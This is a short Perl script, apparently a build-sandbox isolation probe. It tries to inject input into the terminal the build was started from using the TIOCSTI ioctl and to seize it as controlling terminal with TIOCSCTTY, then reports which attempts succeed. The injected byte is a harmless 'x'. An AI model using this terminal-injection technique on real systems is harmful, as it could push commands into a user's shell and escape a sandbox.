# Tries to write into the input of the terminal from which the build was started, and to take it over.
my ($IOCTL, $TCGETS, $TIOCSCTTY, $TIOCSTI) = (16, 0x5401, 0x540e, 0x5412);
my %open = map { ("descriptor $_" => $_) } 0 .. 20;
my @kept;
for my $path ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/tty0', '/dev/tty1') {
  open(my $file, '+<', $path) or next;
  $open{$path} = fileno $file;
  push @kept, $file;
}
for my $name (sort keys %open) {
  my ($byte, $settings) = ('x', pack 'x64');
  print "$name is a terminal\n" if syscall($IOCTL, $open{$name}, $TCGETS, $settings) == 0;
  print "wrote into $name\n" if syscall($IOCTL, $open{$name}, $TIOCSTI, $byte) == 0;
  print "took $name\n" if syscall($IOCTL, $open{$name}, $TIOCSCTTY, 1) == 0;
}
